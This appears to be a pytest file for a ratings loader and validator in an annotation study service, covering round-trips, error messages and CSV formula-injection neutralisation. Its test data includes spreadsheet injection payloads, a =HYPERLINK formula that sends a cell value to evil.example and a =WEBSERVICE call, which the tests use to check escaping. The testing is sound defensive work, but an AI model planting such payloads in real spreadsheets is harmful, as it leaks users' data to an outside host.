"""Loading and validating ratings: good files load, malformed ones name the row and column."""

from __future__ import annotations

from csv import reader
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from analysis.load import RatingsError, read_ratings, validate
from analysis.simulate import CrowdSpec, simulate
from service.studies.export import RATINGS_COLUMNS, write_frame
from service.studies.ratings_file import APPENDED_COLUMNS, REQUIRED_COLUMNS

HOSTILE_LABELS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1", "@SUM(A1)",
                  "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "-", "it's fine", "'quoted'"]


@pytest.fixture
def raw() -> pd.DataFrame:
    return simulate(CrowdSpec(n_annotators=10, n_stimuli=40, ratings_per_item=3, seed=1))[0]


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_simulated_export_round_trips(raw: pd.DataFrame, tmp_path: Path, fmt: str) -> None:
    path = write_frame(raw, tmp_path / f"r.{fmt}", fmt)  # type: ignore[arg-type]
    back = read_ratings(path)
    assert list(back.columns) == list(RATINGS_COLUMNS)
    assert len(back) == len(raw)
    pd.testing.assert_series_equal(back["interpretable"], validate(raw)["interpretable"])
    catch = back[back["condition"].isin(["catch_positive", "catch_negative"])]
    assert catch["stimulus_id"].isna().all() and catch["layer"].isna().all()
    assert back.loc[back["condition"] == "random", "channel"].isna().all()


def _broken(raw: pd.DataFrame, row: int, column: str, value: object) -> pd.DataFrame:
    frame = raw.astype(object).copy()
    frame.loc[row, column] = value
    return frame


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("condition", "baseline", "row 4, column 'condition': 'baseline' is not one of"),
        ("interpretable", 2, "row 4, column 'interpretable': 2 is not 0 or 1"),
        ("confidence", 7, "row 4, column 'confidence': 7 is not in 1–5"),
        ("confidence", "high", "row 4, column 'confidence': 'high' is not a whole number"),
        ("rt_ms", -5, "row 4, column 'rt_ms': -5 is negative"),
        ("annotator_id", None, "row 4, column 'annotator_id': empty is required"),
        ("stimulus_id", None, "row 4, column 'stimulus_id': empty is required on basis/random"),
        ("catch_item_id", 3, "row 4, column 'catch_item_id': 3 must be empty on basis/random"),
        ("created_at", "yesterday", "row 4, column 'created_at': 'yesterday' is not an ISO"),
    ],
)
def test_bad_values_name_row_and_column(raw: pd.DataFrame, column: str, value: object,
                                        message: str) -> None:
    assert raw.loc[3, "condition"] in ("basis", "random")
    with pytest.raises(RatingsError, match=message):
        validate(_broken(raw, 3, column, value))


def test_bad_csv_names_the_row(raw: pd.DataFrame, tmp_path: Path) -> None:
    path = write_frame(_broken(raw, 9, "confidence", 9), tmp_path / "r.csv", "csv")
    with pytest.raises(RatingsError, match="row 10, column 'confidence'"):
        read_ratings(path)


def test_missing_columns_and_empty_and_unreadable(raw: pd.DataFrame, tmp_path: Path) -> None:
    with pytest.raises(RatingsError, match="missing column\\(s\\): layer, condition"):
        validate(raw.drop(columns=["layer", "condition"]))
    with pytest.raises(RatingsError, match="no ratings"):
        validate(raw.iloc[:0])
    with pytest.raises(RatingsError, match="no such file"):
        read_ratings(tmp_path / "absent.csv")
    garbage = tmp_path / "g.parquet"
    garbage.write_bytes(b"not parquet")
    with pytest.raises(RatingsError, match="cannot read"):
        read_ratings(garbage)


def test_duplicate_rating_ids(raw: pd.DataFrame) -> None:
    with pytest.raises(RatingsError, match="row 2, column 'rating_id'.*duplicate"):
        validate(_broken(raw, 1, "rating_id", raw.loc[0, "rating_id"]))


def test_load_study_from_the_database(engine) -> None:  # type: ignore[no-untyped-def]
    from service.studies.export import ExportError, ratings_frame, stimulus_pngs
    from tests.service.test_export import _build

    ids = _build(engine)
    frame = validate(ratings_frame(engine, ids["study"]))
    assert len(frame) == 4
    assert sorted(frame["condition"].astype(str)) == ["basis", "catch_negative",
                                                      "catch_positive", "random"]
    images = stimulus_pngs(engine, [ids["stim_b"], ids["stim_r"]])
    assert set(images) == {ids["stim_b"], ids["stim_r"]}
    assert all(png.startswith(b"\x89PNG") for png in images.values())
    with pytest.raises(ExportError, match="no study with id 999"):
        ratings_frame(engine, 999)


def _with_appended(raw: pd.DataFrame) -> pd.DataFrame:
    """The simulated ratings with the appended columns filled as the site's export fills them."""
    return raw.assign(
        task="rating", reference=pd.NA, correct=pd.NA, choice=pd.NA,
        annotator_source=pd.array(np.where(raw.index % 2 == 0, "prolific", "mturk"),
                                  dtype="string"),
        question="=WEBSERVICE(\"http://evil.example/\") -1?",
        query_gap=pd.array([pd.NA] * len(raw), dtype="Float64"),
        server_rt_ms=pd.array(range(len(raw)), dtype="Int64"),
    )


@pytest.mark.parametrize("appended", [False, True])
def test_a_neutralised_csv_reads_as_the_parquet_file(raw: pd.DataFrame, tmp_path: Path,
                                                     appended: bool) -> None:
    frame = raw.assign(label=pd.array([HOSTILE_LABELS[i % len(HOSTILE_LABELS)]
                                       for i in range(len(raw))], dtype="string"))
    if appended:
        frame = _with_appended(frame)
    csv = write_frame(frame, tmp_path / "r.csv", "csv")
    parquet = write_frame(frame, tmp_path / "r.parquet", "parquet")
    with csv.open(newline="") as handle:
        cells = [cell for row in reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("\t", "\r"))
                or cell.lstrip().startswith(("=", "+", "-", "@"))]
    assert "'" + HOSTILE_LABELS[0] in cells and "''=1+1" in cells and "'-1" in cells
    from_csv, from_parquet = read_ratings(csv), read_ratings(parquet)
    pd.testing.assert_frame_equal(from_csv, from_parquet)
    labels = from_csv["label"].astype("object")
    assert labels[labels.notna()].str.strip().isin([h.strip() for h in HOSTILE_LABELS]).all()
    assert set(labels[labels.notna()]) >= {"-1", "'=1+1", HOSTILE_LABELS[0]}
    if appended:
        assert str(from_csv["question"].iloc[0]) == "=WEBSERVICE(\"http://evil.example/\") -1?"
        assert from_csv["server_rt_ms"].tolist() == list(range(len(raw)))


def test_files_with_and_without_the_appended_columns(raw: pd.DataFrame, tmp_path: Path) -> None:
    old = read_ratings(write_frame(raw[list(REQUIRED_COLUMNS)], tmp_path / "old.csv", "csv"))
    new = read_ratings(write_frame(_with_appended(raw), tmp_path / "new.csv", "csv"))
    assert list(old.columns) == list(new.columns) == list(RATINGS_COLUMNS)
    assert (old["task"] == "rating").all() and (new["task"] == "rating").all()
    for column in APPENDED_COLUMNS[1:]:
        assert old[column].isna().all(), column
    assert new["server_rt_ms"].dtype == "Int64" and new["query_gap"].dtype == "Float64"
    assert set(new["annotator_source"].astype(str)) == {"prolific", "mturk"}
    pd.testing.assert_frame_equal(old[list(REQUIRED_COLUMNS)], new[list(REQUIRED_COLUMNS)])


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("task", "survey", "row 4, column 'task': 'survey' is not one of rating, 2afc"),
        ("server_rt_ms", -3, "row 4, column 'server_rt_ms': -3 is negative"),
        ("server_rt_ms", "soon", "row 4, column 'server_rt_ms': 'soon' is not a whole number"),
        ("query_gap", "wide", "row 4, column 'query_gap': 'wide' is not a number"),
    ],
)
def test_bad_appended_values_name_row_and_column(raw: pd.DataFrame, column: str, value: object,
                                                 message: str) -> None:
    with pytest.raises(RatingsError, match=message):
        validate(_broken(_with_appended(raw), 3, column, value))


def test_a_bad_number_read_from_a_file_is_shown_as_written(raw: pd.DataFrame,
                                                           tmp_path: Path) -> None:
    frame = raw.copy()
    frame.loc[3, "confidence"] = 7
    path = write_frame(frame, tmp_path / "r.csv", "csv")
    with pytest.raises(RatingsError) as info:
        read_ratings(path)
    assert "row 4, column 'confidence': 7 is not in 1–5" in str(info.value)
    assert "np." not in str(info.value)
